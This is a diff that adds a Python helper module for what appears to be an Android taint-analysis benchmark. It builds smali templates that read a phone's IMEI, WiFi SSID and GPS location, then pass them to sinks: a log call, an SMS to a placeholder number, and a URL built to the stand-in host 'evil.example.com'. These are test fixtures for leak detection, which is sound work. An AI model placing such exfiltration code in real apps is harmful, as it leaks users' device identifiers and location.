@@ -1,0 +1,129 @@
+"""Shared smali building blocks for the benchmark corpus.
+
+Every sample is real bytecode assembled from these templates; nothing is
+mocked.  The standard vocabulary: ``getImei``/``getSsid``/``getLoc`` as
+sources, ``logIt``/``sms``/``www`` as sinks.
+"""
+
+from __future__ import annotations
+
+from repro.dex import assemble
+from repro.dex.builder import DexBuilder
+from repro.runtime.apk import Apk
+
+ACTIVITY = "Landroid/app/Activity;"
+
+
+def activity_class(
+    cls: str,
+    body: str,
+    superclass: str = ACTIVITY,
+    fields: str = "",
+    implements: str = "",
+) -> str:
+    """Wrap method bodies into a .class block."""
+    lines = [f".class public {cls}", f".super {superclass}"]
+    if implements:
+        for interface in implements.split():
+            lines.append(f".implements {interface}")
+    if fields:
+        lines.append(fields)
+    lines.append(body)
+    return "\n".join(lines) + "\n"
+
+
+def source_methods(cls: str) -> str:
+    """Source helpers bound to an activity class (need a Context)."""
+    return f"""
+.method public getImei()Ljava/lang/String;
+    .registers 3
+    const-string v0, "phone"
+    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Landroid/telephony/TelephonyManager;
+    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v0
+    return-object v0
+.end method
+
+.method public getSsid()Ljava/lang/String;
+    .registers 3
+    const-string v0, "wifi"
+    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Landroid/net/wifi/WifiManager;
+    invoke-virtual {{v0}}, Landroid/net/wifi/WifiManager;->getConnectionInfo()Landroid/net/wifi/WifiInfo;
+    move-result-object v0
+    invoke-virtual {{v0}}, Landroid/net/wifi/WifiInfo;->getSSID()Ljava/lang/String;
+    move-result-object v0
+    return-object v0
+.end method
+
+.method public getLoc()Ljava/lang/String;
+    .registers 3
+    const-string v0, "location"
+    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Landroid/location/LocationManager;
+    const-string v1, "gps"
+    invoke-virtual {{v0, v1}}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;
+    move-result-object v0
+    invoke-virtual {{v0}}, Landroid/location/Location;->toString()Ljava/lang/String;
+    move-result-object v0
+    return-object v0
+.end method
+"""
+
+
+def sink_methods(cls: str) -> str:
+    """Sink helpers: logIt (Log), sms (SmsManager), www (URL)."""
+    return f"""
+.method public logIt(Ljava/lang/String;)V
+    .registers 3
+    const-string v0, "LEAK"
+    invoke-static {{v0, p1}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
+    return-void
+.end method
+
+.method public sms(Ljava/lang/String;)V
+    .registers 8
+    invoke-static {{}}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
+    move-result-object v0
+    const-string v1, "+49 1234"
+    const/4 v2, 0
+    move-object v3, p1
+    const/4 v4, 0
+    const/4 v5, 0
+    invoke-virtual/range {{v0 .. v5}}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    return-void
+.end method
+
+.method public www(Ljava/lang/String;)V
+    .registers 4
+    new-instance v0, Ljava/net/URL;
+    const-string v1, "http://evil.example.com/?q="
+    invoke-virtual {{v1, p1}}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v1
+    invoke-direct {{v0, v1}}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    return-void
+.end method
+"""
+
+
+def helper_suffix(cls: str) -> str:
+    """Sources + sinks, the common tail of most sample activities."""
+    return source_methods(cls) + sink_methods(cls)
+
+
+def make_sample_apk(package: str, main_cls: str, smali: str, **kwargs) -> Apk:
+    """Assemble smali text into an installable APK."""
+    dex = assemble(smali)
+    return Apk(package, main_cls, [dex], **kwargs)
+
+
+def multi_class_apk(package: str, main_cls: str, texts: list[str], **kwargs) -> Apk:
+    """Assemble several compilation units into one classes.dex."""
+    builder = DexBuilder()
+    for text in texts:
+        assemble(text, builder)
+    return Apk(package, main_cls, [builder.dex], **kwargs)
